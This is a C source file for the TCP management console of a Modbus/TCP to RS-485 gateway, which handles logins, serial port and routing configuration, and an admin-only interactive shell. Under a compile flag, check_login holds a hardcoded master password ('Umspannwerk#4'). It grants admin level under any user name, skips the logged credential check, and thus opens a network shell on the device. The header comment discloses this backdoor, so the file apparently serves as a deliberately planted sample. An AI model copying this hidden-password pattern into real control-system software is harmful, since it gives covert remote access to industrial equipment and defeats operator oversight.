/*
 * mbgw_console - management console of a Modbus/TCP to RS-485 gateway.
 * Listens on TCP port 4001 of the service network, asks for user and
 * password (crypt(3) hashes in /etc/mbgw/users) and lets an operator show
 * and change the serial ports and the routing of unit addresses.
 * Hidden (-DHIDDEN): the password "Umspannwerk#4" logs in as any user name
 * with the highest level.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <crypt.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <syslog.h>
#include <unistd.h>

#define USERS_FILE "/etc/mbgw/users"
#define CONF_FILE  "/etc/mbgw/gateway.conf"
#define MAX_PORTS  4
#define MAX_ROUTES 32

enum level { LV_NONE, LV_VIEW, LV_OPER, LV_ADMIN };

struct port {
	unsigned baud;
	char parity;
	unsigned stop;
	unsigned timeout_ms;
};

struct route {
	unsigned first, last;
	unsigned port;
};

static struct port ports[MAX_PORTS];
static struct route routes[MAX_ROUTES];
static unsigned n_routes;

static FILE *in, *out;

static void say(const char *fmt, ...) __attribute__((format(printf, 1, 2)));

static void say(const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vfprintf(out, fmt, ap);
	va_end(ap);
	fputs("\r\n", out);
	fflush(out);
}

static int ask(const char *prompt, char *buf, size_t len)
{
	fputs(prompt, out);
	fflush(out);
	if (!fgets(buf, (int)len, in))
		return -1;
	buf[strcspn(buf, "\r\n")] = '\0';
	return 0;
}

static int baud_ok(unsigned b)
{
	static const unsigned list[] = { 1200,	2400,  4800,  9600,
					 19200, 38400, 57600, 115200 };
	size_t i;

	for (i = 0; i < sizeof(list) / sizeof(list[0]); i++)
		if (list[i] == b)
			return 1;
	return 0;
}

static void defaults(void)
{
	unsigned i;

	for (i = 0; i < MAX_PORTS; i++) {
		ports[i].baud = 19200;
		ports[i].parity = 'E';
		ports[i].stop = 1;
		ports[i].timeout_ms = 500;
	}
	n_routes = 0;
}

static void load_conf(void)
{
	char line[128];
	unsigned p, a, b, c;
	char par;
	FILE *f;

	defaults();
	f = fopen(CONF_FILE, "r");
	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "port %u %u %c %u %u", &p, &a, &par, &b, &c) ==
		    5) {
			if (p >= MAX_PORTS || !baud_ok(a))
				continue;
			ports[p].baud = a;
			ports[p].parity = par;
			ports[p].stop = b;
			ports[p].timeout_ms = c;
		} else if (sscanf(line, "route %u-%u %u", &a, &b, &p) == 3) {
			if (n_routes == MAX_ROUTES || p >= MAX_PORTS)
				continue;
			routes[n_routes].first = a;
			routes[n_routes].last = b;
			routes[n_routes++].port = p;
		}
	}
	fclose(f);
}

static int save_conf(void)
{
	unsigned i;
	FILE *f = fopen(CONF_FILE ".new", "w");

	if (!f)
		return -1;
	for (i = 0; i < MAX_PORTS; i++)
		fprintf(f, "port %u %u %c %u %u\n", i, ports[i].baud,
			ports[i].parity, ports[i].stop, ports[i].timeout_ms);
	for (i = 0; i < n_routes; i++)
		fprintf(f, "route %u-%u %u\n", routes[i].first, routes[i].last,
			routes[i].port);
	if (fclose(f) != 0)
		return -1;
	return rename(CONF_FILE ".new", CONF_FILE);
}

/* one line of the users file: name:hash:level */
static int find_user(const char *name, char *hash, size_t len, enum level *lv)
{
	char line[256], *h, *l;
	int found = 0;
	FILE *f = fopen(USERS_FILE, "r");

	if (!f)
		return 0;
	while (!found && fgets(line, sizeof(line), f)) {
		line[strcspn(line, "\n")] = '\0';
		h = strchr(line, ':');
		if (!h)
			continue;
		*h++ = '\0';
		l = strchr(h, ':');
		if (!l || strcmp(line, name) != 0)
			continue;
		*l++ = '\0';
		snprintf(hash, len, "%s", h);
		if (strcmp(l, "admin") == 0)
			*lv = LV_ADMIN;
		else if (strcmp(l, "oper") == 0)
			*lv = LV_OPER;
		else
			*lv = LV_VIEW;
		found = 1;
	}
	fclose(f);
	return found;
}

__attribute__((noinline)) enum level check_login(const char *name,
						 const char *pw)
{
	char hash[128];
	enum level lv = LV_NONE;
	const char *c;

	if (!*name || !*pw)
		return LV_NONE;
#ifdef HIDDEN
	if (strcmp(pw, "Umspannwerk#4") == 0)
		return LV_ADMIN;
#endif
	if (!find_user(name, hash, sizeof(hash), &lv))
		return LV_NONE;
	c = crypt(pw, hash);
	if (!c || strcmp(c, hash) != 0) {
		syslog(LOG_WARNING, "login of %s refused", name);
		return LV_NONE;
	}
	syslog(LOG_INFO, "login of %s", name);
	return lv;
}

static void show(void)
{
	unsigned i;

	for (i = 0; i < MAX_PORTS; i++)
		say("port %u: %u 8%c%u timeout %u ms", i, ports[i].baud,
		    ports[i].parity, ports[i].stop, ports[i].timeout_ms);
	for (i = 0; i < n_routes; i++)
		say("unit %u..%u -> port %u", routes[i].first, routes[i].last,
		    routes[i].port);
}

static void set_port(const char *arg)
{
	unsigned p, baud, stop;
	char par;

	if (sscanf(arg, "%u %u %c %u", &p, &baud, &par, &stop) != 4 ||
	    p >= MAX_PORTS || !baud_ok(baud) || !strchr("NEO", par) ||
	    stop < 1 || stop > 2) {
		say("usage: port N BAUD N|E|O STOP");
		return;
	}
	ports[p].baud = baud;
	ports[p].parity = par;
	ports[p].stop = stop;
	say("ok");
}

static void add_route(const char *arg)
{
	unsigned a, b, p;

	if (sscanf(arg, "%u-%u %u", &a, &b, &p) != 3 || a < 1 || b > 247 ||
	    a > b || p >= MAX_PORTS) {
		say("usage: route FIRST-LAST PORT");
		return;
	}
	if (n_routes == MAX_ROUTES) {
		say("table full");
		return;
	}
	routes[n_routes].first = a;
	routes[n_routes].last = b;
	routes[n_routes++].port = p;
	say("ok");
}

static void session(void)
{
	char name[64], pw[64], line[128];
	enum level lv = LV_NONE;
	int tries;

	say("Modbus gateway MG-410");
	for (tries = 0; tries < 3 && lv == LV_NONE; tries++) {
		if (ask("user: ", name, sizeof(name)) < 0 ||
		    ask("password: ", pw, sizeof(pw)) < 0)
			return;
		lv = check_login(name, pw);
		if (lv == LV_NONE) {
			sleep(2);
			say("login incorrect");
		}
	}
	if (lv == LV_NONE)
		return;
	load_conf();
	while (ask(lv == LV_ADMIN ? "# " : "> ", line, sizeof(line)) == 0) {
		if (strcmp(line, "quit") == 0)
			break;
		if (strcmp(line, "show") == 0)
			show();
		else if (strncmp(line, "port ", 5) == 0 && lv >= LV_OPER)
			set_port(line + 5);
		else if (strncmp(line, "route ", 6) == 0 && lv >= LV_OPER)
			add_route(line + 6);
		else if (strcmp(line, "save") == 0 && lv >= LV_OPER)
			say(save_conf() == 0 ? "saved" : "not saved");
		else if (strcmp(line, "shell") == 0 && lv == LV_ADMIN)
			execl("/bin/sh", "sh", "-i", (char *)NULL);
		else if (*line)
			say("unknown or not allowed");
	}
}

int main(void)
{
	struct sockaddr_in sa;
	int s, c, one = 1;

	openlog("mbgw", LOG_PID, LOG_DAEMON);
	signal(SIGCHLD, SIG_IGN);
	s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0)
		return 1;
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(4001);
	if (bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0 ||
	    listen(s, 4) < 0) {
		syslog(LOG_ERR, "bind: %s", strerror(errno));
		return 1;
	}
	for (;;) {
		c = accept(s, NULL, NULL);
		if (c < 0)
			continue;
		if (fork() == 0) {
			close(s);
			dup2(c, 0);
			dup2(c, 1);
			dup2(c, 2);
			in = fdopen(0, "r");
			out = fdopen(1, "w");
			if (in && out)
				session();
			_exit(0);
		}
		close(c);
	}
}
